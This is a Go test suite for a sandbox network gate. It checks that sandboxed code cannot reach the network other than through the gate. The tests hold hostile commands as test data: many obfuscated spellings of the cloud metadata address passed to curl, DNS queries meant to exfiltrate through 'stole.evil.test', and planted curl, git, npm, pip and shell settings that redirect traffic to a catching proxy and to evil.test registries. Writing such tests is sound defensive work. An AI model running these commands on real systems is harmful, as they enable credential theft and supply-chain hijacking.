//go:build linux

package egress_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/berm-dev/berm"
	"github.com/berm-dev/berm/egress"
)

// testAttacks: what a process can do with all the rights that a payload has. That
// nothing was on the cable is judged at the end, for all of it.
func (w *world) testAttacks(t *testing.T) {
	t.Run("around the gate", func(t *testing.T) { t.Parallel(); w.around(t) })
	t.Run("other sandboxes", func(t *testing.T) { t.Parallel(); w.neighbours(t) })
	t.Run("metadata", func(t *testing.T) { t.Parallel(); w.metadata(t) })
	t.Run("own name server", func(t *testing.T) { t.Parallel(); w.ownDNS(t) })
	t.Run("proxy variables", func(t *testing.T) { t.Parallel(); w.variables(t) })
	t.Run("planted settings", func(t *testing.T) { t.Parallel(); w.planted(t) })
	t.Run("seek finds", func(t *testing.T) { t.Parallel(); w.seekFinds(t) })
}

// tried reads how many attempts there were, and gives those that worked.
func tried(t *testing.T, text string, atLeast int) (worked []string) {
	t.Helper()
	n := 0
	for line := range strings.Lines(text) {
		if _, err := fmt.Sscanf(line, "tried %d", &n); err != nil && strings.HasPrefix(line, "out: ") {
			worked = append(worked, strings.TrimSpace(line))
		}
	}
	if n < atLeast {
		t.Errorf("%d attempts only: %s", n, clip([]byte(text)))
	}
	return worked
}

// around: no address is reached but through the gate, by no kind of socket, and
// no other network can be had.
func (w *world) around(t *testing.T) {
	b := w.box(t, policy(newToken()))
	got := b.run("out", webAddr, webAddr6, otherAddr, dnsAddr, routerAddr, bermAddr, bermAddr6, "169.254.169.254", "fd00:ec2::254",
		"10.0.0.1", "8.8.8.8", "2001:4860:4860::8888", "::ffff:"+webAddr, "fe80::1%lo", "64:ff9b::5db8:d822", "255.255.255.255", "224.0.0.251", "ff02::1%lo")
	if worked := tried(t, got, 300); len(worked) > 0 {
		t.Errorf("%q", worked)
	}
	if n := len(w.records.decisions(b.ID())); n > 0 {
		t.Errorf("the gate was asked %d times", n)
	}
	routes := b.sh(`tail -n +2 /proc/net/route; grep -v ' lo$' /proc/net/ipv6_route; tail -n +3 /proc/net/dev | grep -v '^ *lo:'; :`)
	if text := string(routes.Stdout); text != "" {
		t.Errorf("there are routes or interfaces: %s", text)
	}
}

// neighbours: the gate of another sandbox, which is allowed more, is behind no
// port, no socket and no descriptor that can be got hold of.
func (w *world) neighbours(t *testing.T) {
	const host = "neighbour.pkg.example.org"
	wide, narrow := w.box(t, policy(newToken())), w.box(t, &egress.Policy{})
	if got := wide.probe(host); got.HTTP != "200" {
		t.Fatalf("the neighbour itself: %+v", got)
	}
	before := len(w.web.to(host))
	last := 1<<16 - 1
	if testing.Short() {
		last = 1 << 13
	}
	got := narrow.run("neighbours", host, fmt.Sprint(last))
	if worked := tried(t, got, 3*last); len(worked) > 0 {
		t.Errorf("%q", worked)
	}
	var open []string
	for line := range strings.Lines(got) {
		if place, ok := strings.CutPrefix(line, "open: "); ok {
			open = append(open, strings.TrimSpace(place))
		}
	}
	if len(open) != 1 || open[0] != "127.0.0.1:3128" {
		t.Errorf("open on loopback: %q, want this sandbox's own gate", open)
	}
	if after := len(w.web.to(host)); after != before {
		t.Errorf("%d requests arrived", after-before)
	}
	for _, r := range w.records.decisions(narrow.ID()) {
		if r.Allow {
			t.Errorf("on record: %+v", r)
		}
	}
	// What belongs to the host, and to other sandboxes, has no place inside.
	for _, script := range []string{`cat /proc/net/unix | tail -n +2 | awk '{print $8}' | grep .`, `find / -xdev -type s 2>/dev/null | grep .`} {
		if res := narrow.sh(script); res.Success() {
			t.Errorf("%s: %s", script, clip(res.Stdout))
		}
	}
}

// metadata: by no spelling, whoever spells it out: the C library takes more of
// them than the gate does.
func (w *world) metadata(t *testing.T) {
	b := w.box(t, &egress.Policy{AllowAny: true})
	res := b.sh(`for a in 169.254.169.254 2852039166 0xa9fea9fe 0xA9.0xFE.0xA9.0xFE 0251.0376.0251.0376 169.254.43518 169.16689662 025177524776 \
			'[::ffff:169.254.169.254]' '[::ffff:a9fe:a9fe]' '[0:0:0:0:0:ffff:a9fe:a9fe]' '[64:ff9b::a9fe:a9fe]' '[2002:a9fe:a9fe::]' '[fd00:ec2::254]' \
			'[fe80::a9fe:a9fe%25lo]' 169.254.169.254. 'x@169.254.169.254' '①⑥⑨.254.169.254' 169。254。169。254 169.254.169.254:80 \
			meta.pkg.example.org alias.pkg.example.org metadata.internal metadata.google.internal instance-data; do
		for way in '' "--noproxy *" "--socks5 127.0.0.1:3128" "--socks5-hostname 127.0.0.1:3128" --proxytunnel; do
			set -f
			echo "$a $way $(env ${way:+-u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy} curl -gs -m 10 -o /dev/null -w '%{http_code}' ${way:+-x "$http_proxy"} $way "http://$a/latest/meta-data/")"
			set +f
		done
	done`)
	lines := strings.Split(strings.TrimSpace(string(res.Stdout)), "\n")
	if len(lines) < 100 {
		t.Errorf("%d attempts only: %v %s", len(lines), res, clip(res.Stderr))
	}
	for _, line := range lines {
		switch line[len(line)-3:] {
		case "000", "400", "403":
		default:
			t.Errorf("answered: %s", line)
		}
	}
	for _, r := range w.records.decisions(b.ID()) {
		if r.Allow {
			t.Errorf("on record: %+v", r)
		}
	}
}

// ownDNS: no question goes out, to whichever server, and none is smuggled through
// the gate for a name that is denied.
func (w *world) ownDNS(t *testing.T) {
	b := w.box(t, &egress.Policy{Allow: []string{"pkg.example.org"}})
	res := b.sh(`python3 - "$@" <<'EOF'
import socket, struct, sys
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05stole\x04evil\x04test\x00\x00\x01\x00\x01"
for server in sys.argv[1:]:
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
        s = socket.socket(family, kind)
        s.settimeout(1)
        try:
            s.connect((server, 53))
            s.sendall(question if kind == socket.SOCK_DGRAM else struct.pack(">H", len(question)) + question)
            print("answered", server, s.recv(512))
        except OSError:
            print("failed", server)
try:
    print("answered", socket.getaddrinfo("stole.evil.test", 80))
except OSError:
    print("failed by name")
EOF`, dnsAddr, "8.8.8.8", "127.0.0.1", "127.0.0.53", "::1", "2001:4860:4860::8888", routerAddr, bermAddr)
	if got := string(res.Stdout); strings.Contains(got, "answered") || strings.Count(got, "failed") != 17 {
		t.Errorf("%v: %s%s", res, got, clip(res.Stderr))
	}
	for _, target := range []string{dnsAddr + ":53", "dns.evil.test:53", "stole.evil.test:53", "pkg.example.org:53", "pkg.example.org:853"} {
		if got := b.run("raw-get", "CONNECT "+target+" HTTP/1.1\nHost: "+target+"\n\n"); !strings.HasPrefix(got, "403 ") {
			t.Errorf("%s: %s", target, got)
		}
	}
}

// variables: who changes them has another proxy, which there is not, or none.
func (w *world) variables(t *testing.T) {
	b := w.box(t, policy(""))
	for _, proxy := range []string{"", "http://" + webAddr, "http://" + bermAddr, "http://127.0.0.1:1", "socks5h://" + webAddr + ":443", "http://[" + webAddr6 + "]:80", "http://pkg.example.org"} {
		for _, host := range []string{"variables.pkg.example.org", "variables.evil.test"} {
			command := shell(`for u in http https; do curl -ksS -m 10 $u://"$1"/page; done`, host)
			command.Env = map[string]string{}
			for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
				command.Env[name] = proxy
			}
			if res := b.exec(command); res.Success() || len(res.Stdout) > 0 {
				t.Errorf("proxy %q, %s: %v %s", proxy, host, res, clip(res.Stdout))
			}
		}
	}
	res := b.exec(berm.Command{Args: shell(`curl -sS -m 10 http://variables.pkg.example.org/page`).Args, Env: map[string]string{"NO_PROXY": "*", "no_proxy": "*"}})
	if res.Success() {
		t.Errorf("without a proxy: %s", clip(res.Stdout))
	}
	// A proxy's name in another's place is a host like others.
	if got := b.probe("variables.pkg.example.org"); got != (probe{"200", "200", "0"}) {
		t.Errorf("afterwards: %+v", got)
	}
}

// planted: settings that one command leaves for the next lead that one's
// programs astray, and to nothing that the policy denies; the host's side takes
// no notice.
func (w *world) planted(t *testing.T) {
	token := newToken()
	b := w.box(t, policy(token))
	plant := b.sh(`set -e; cd ~
		python3 - <<'EOF' & echo $! > /tmp/pid
import socketserver, sys
class H(socketserver.StreamRequestHandler):
    def handle(self):
        line = b"".join(iter(self.rfile.readline, b"\r\n"))
        open("/tmp/caught", "ab").write(line)
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("127.0.0.1", 4444), H).serve_forever()
EOF
		printf 'proxy = "http://127.0.0.1:4444"\nnoproxy = ""\ninsecure\nheader = "X-Planted: yes"\nresolve = "api.example.com:443:127.0.0.1"\n' > .curlrc
		printf 'http_proxy = http://127.0.0.1:4444\nhttps_proxy = http://127.0.0.1:4444\nuse_proxy = on\n' > .wgetrc
		git config --global http.proxy http://127.0.0.1:4444
		git config --global http.sslVerify false
		git config --global url.https://pkg.evil.test/.insteadOf https://api.example.com/
		printf 'proxy=http://127.0.0.1:4444/\nhttps-proxy=http://127.0.0.1:4444/\nregistry=http://npm.evil.test/\nstrict-ssl=false\n' > .npmrc
		mkdir -p .config/pip && printf '[global]\nproxy = http://127.0.0.1:4444\nindex-url = http://pip.evil.test/simple\n' > .config/pip/pip.conf
		printf 'export HTTPS_PROXY=http://127.0.0.1:4444 https_proxy=http://127.0.0.1:4444\n' | tee .profile .bashrc .bash_profile > .zshenv
		printf 'Host *\nProxyCommand nc 127.0.0.1 4444\n' > .ssh-config
		for f in "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS"; do echo garbage > "$f" || :; done; :`)
	if !plant.Success() {
		t.Fatalf("%v: %s", plant, clip(plant.Stderr))
	}
	before := len(w.records.decisions(b.ID()))
	next := b.sh(`curl -sS -m 5 https://api.example.com/echo; wget -nv -T 5 -t 1 -O- https://pkg.evil.test/; git ls-remote https://api.example.com/git/repo.git; curl -q -ksS -m 5 https://planted.evil.test/; :`)
	lacks(t, token, "what the next command wrote", string(next.Stdout)+string(next.Stderr))
	for _, r := range w.records.decisions(b.ID())[before:] {
		if r.Allow && r.Host != brokeredHost {
			t.Errorf("on record: %+v", r)
		}
	}
	caught := b.sh(`cat /tmp/caught; :`)
	lacks(t, token, "what the planted proxy caught", string(caught.Stdout))
	if !strings.Contains(string(caught.Stdout), "CONNECT") {
		t.Errorf("the planted proxy caught nothing: %s", clip(caught.Stdout))
	}
	// A command that is told of the gate by name has it, as before.
	again := b.exec(berm.Command{Args: []string{b.payload, "probe", "planted.pkg.example.org"}})
	if !strings.Contains(string(again.Stdout), `"HTTP":"200"`) {
		t.Errorf("the next command has no gate: %s%s", clip(again.Stdout), clip(again.Stderr))
	}
	w.isNotInside(t, b, token)
}

// seekFinds: the search that finds no secret finds one where there is one.
func (w *world) seekFinds(t *testing.T) {
	b := w.box(t, policy(""))
	token := newToken()
	keeper, err := b.Start(bounded(t), berm.Command{Args: []string{"sleep", "600"}, Env: map[string]string{"PLANTED": token}})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = keeper.Kill(bounded(t)) }()
	b.write("planted", []byte(strings.Repeat("x", 1<<16-5)+token), 0o600)
	found, looked := b.seek(token)
	for _, want := range []string{
		"found in " + b.WorkDir() + "/planted", fmt.Sprintf("found in /proc/%d/environ", keeper.PID()), fmt.Sprintf("found in the memory of %d", keeper.PID()),
	} {
		if !strings.Contains(found, want+"\n") {
			t.Errorf("%q is not among %q (%s)", want, found, looked)
		}
	}
}
